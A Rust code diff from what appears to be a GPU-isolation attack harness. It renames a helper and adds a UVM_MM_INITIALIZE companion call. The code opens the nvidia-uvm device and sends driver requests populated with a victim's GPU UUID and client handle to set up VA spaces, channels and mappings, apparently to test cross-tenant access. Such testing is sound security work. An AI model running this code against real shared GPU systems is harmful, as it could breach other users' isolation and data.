@@ -4,7 +4,7 @@
 use super::scene::{escape, victims, Attacker, MIB, OWN};
 use super::{attack, told, Attack, Driver, Sign, Told};
 use crate::bytes::{put_u32, put_u64, u32_at};
-use crate::guest::rm;
+use crate::guest::{rm, uvm};
 use crate::layout;
 use crate::sys;
 
@@ -379,10 +379,12 @@ fn control(a: &Attacker) -> Told {
 }
 
 /// A UVM file with the GPU in it.
-fn uvm(a: &Attacker) -> Result<i32, String> {
+fn uvm_file(a: &Attacker) -> Result<i32, String> {
     let path = format!("{}/nvidia-uvm", a.folder);
     let fd = sys::open(&path, libc::O_RDWR | libc::O_CLOEXEC).map_err(|e| format!("errno {e}"))?;
     request(fd, layout::UVM_INITIALIZE, &mut [0; 16], 8)?;
+    // The attack's process ends soon, and both files with it.
+    uvm::companion(&path, fd).map_err(|e| format!("UVM_MM_INITIALIZE: {e}"))?;
     let mut gpu = [0; 40];
     gpu[..16].copy_from_slice(&a.victim.gpus.uuid);
     request(fd, 37, &mut gpu, 36)?;
@@ -399,7 +401,7 @@ fn request(fd: i32, cmd: u32, params: &mut [u8], at: usize) -> Told {
 }
 
 fn uvm_vaspace(a: &Attacker) -> Told {
-    let fd = uvm(a)?;
+    let fd = uvm_file(a)?;
     let mut params = [0; 32];
     params[..16].copy_from_slice(&a.victim.gpus.uuid);
     put_u32(&mut params, 20, a.victim.client);
@@ -408,7 +410,7 @@ fn uvm_vaspace(a: &Attacker) -> Told {
 }
 
 fn uvm_channel(a: &Attacker) -> Told {
-    let fd = uvm(a)?;
+    let fd = uvm_file(a)?;
     let mut params = [0; 56];
     params[..16].copy_from_slice(&a.victim.gpus.uuid);
     put_u32(&mut params, 20, a.victim.client);
@@ -419,7 +421,7 @@ fn uvm_channel(a: &Attacker) -> Told {
 }
 
 fn uvm_map(a: &Attacker) -> Told {
-    let fd = uvm(a)?;
+    let fd = uvm_file(a)?;
     told(a.client.alloc(rm::DEVICE_HANDLE, OWN, 0x90f1, &mut [0; 56]))?;
     let mut space = [0; 32];
     space[..16].copy_from_slice(&a.victim.gpus.uuid);
